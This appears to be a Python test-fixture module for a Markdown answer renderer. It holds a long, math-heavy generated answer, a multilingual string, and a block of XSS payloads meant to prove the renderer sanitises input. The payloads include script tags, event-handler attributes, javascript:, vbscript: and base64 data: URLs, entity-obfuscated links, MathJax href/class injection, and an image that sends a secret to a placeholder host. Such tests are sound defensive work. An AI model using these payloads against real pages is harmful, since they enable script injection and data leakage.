"""Answers made to be hard on whoever shows them."""

from __future__ import annotations

from functools import cache

LONG_ANSWER_BYTES = 100_000

HOSTILE_MARKDOWN = r"""# A hostile answer

If anything here runs, the page that shows it is not safe. Each run would set `window.pwned`.

<script>window.pwned = "script"</script>
<img src=x onerror="window.pwned = 'onerror'">
<svg onload="window.pwned = 'svg'"><circle r="9"/></svg>
<iframe srcdoc="<script>parent.pwned = 'srcdoc'</script>"></iframe>
<iframe src="javascript:parent.pwned = 'iframe'"></iframe>
<details open ontoggle="window.pwned = 'toggle'"><summary>details</summary></details>
<a href="javascript:window.pwned = 'link'">raw link</a>
<style>body { display: none }</style>
<form action="javascript:window.pwned = 'form'"><button>form</button></form>
<meta http-equiv="refresh" content="0;url=javascript:window.pwned='meta'">
<object data="javascript:window.pwned = 'object'"></object>
<math><mtext><img src=x onerror="window.pwned = 'math'"></mtext></math>
<video><source onerror="window.pwned = 'video'"></video>
<body onload="window.pwned = 'body'">
<input autofocus onfocus="window.pwned = 'focus'">

[a link](javascript:window.pwned='markdown-link') ·
[tabbed](java&#x09;script:window.pwned='entity-link') ·
[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9J2RhdGEnPC9zY3JpcHQ+) ·
[vb](vbscript:window.pwned) · <javascript:window.pwned='autolink'>

![an image that calls home](https://tracker.invalid/pixel.png?secret=42)
![onerror](x"onerror="window.pwned='image-title')

$\href{javascript:window.pwned='math-link'}{x^2}$ and $\class{" onclick="window.pwned='class'}{y}$

```html
<script>window.pwned = "code, which is only shown"</script>
```

| a | b |
|---|---|
| <img src=x onerror="window.pwned='cell'"> | `</td><script>window.pwned='tick'</script>` |

The last line is ordinary text.
"""

_LONG_SECTION = r"""## {number}. Sums of powers, case $k = {k}$

Write $S_{{{k}}}(n) = \sum_{{i=1}}^{{n}} i^{{{k}}}$. Faulhaber's formula expresses it through the Bernoulli
numbers $B_j$:

$$S_{{{k}}}(n) = \frac{{1}}{{{k_plus}}}
\sum_{{j=0}}^{{{k}}} \binom{{{k_plus}}}{{j}} B_j^{{+}} \, n^{{{k_plus}-j}}$$

For large $n$ the integral $\int_0^n x^{{{k}}}\,dx = \frac{{n^{{{k_plus}}}}}{{{k_plus}}}$ dominates, and the
relative error falls like $\mathcal{{O}}(1/n)$.

| $n$ | $S_{{{k}}}(n)$ | $n^{{{k_plus}}}/{k_plus}$ | ratio |
|----:|----:|----:|----:|
{rows}

```python
def power_sum(n: int, k: int = {k}) -> int:
    # Exact for every n: Python's integers do not overflow.
    return sum(i**k for i in range(1, n + 1))
```

- The leading term is $\frac{{n^{{{k_plus}}}}}{{{k_plus}}}$, the next one $\frac{{n^{{{k}}}}}{{2}}$.
- With $x = \frac{{1}}{{n}}$ the ratio tends to $1 + \frac{{{k_plus}}}{{2}}\,x$ as $x \to 0$.

"""


@cache
def long_answer() -> str:
    """About 100 kB of Markdown with much mathematics."""
    parts = ["# Sums of powers, at length\n\n"]
    size = 0
    while size < LONG_ANSWER_BYTES:
        number = len(parts)
        parts.append(_long_section(number, k=1 + number % 7))
        size += len(parts[-1])
    return "".join(parts) + "That was the last section."


def _long_section(number: int, k: int) -> str:
    rows = []
    for n in range(number, number + 5):
        exact, estimate = sum(i**k for i in range(1, n + 1)), n ** (k + 1) / (k + 1)
        rows.append(f"| {n} | {exact} | {estimate:.2f} | {exact / estimate:.4f} |")
    return _LONG_SECTION.format(number=number, k=k, k_plus=k + 1, rows="\n".join(rows))


MULTILINGUAL = (
    "Grüße aus Zürich, 東京, Αθήνα und القاهرة: café, naïve, smörgåsbord, ½ ≤ √2 ≈ 1.414. "
    "Emoji: 🧪 🚀 👩‍🔬 🏳️‍🌈 🇯🇵. Combining: é = e\u0301. Line separators: a\u2028b\u0085c."
)
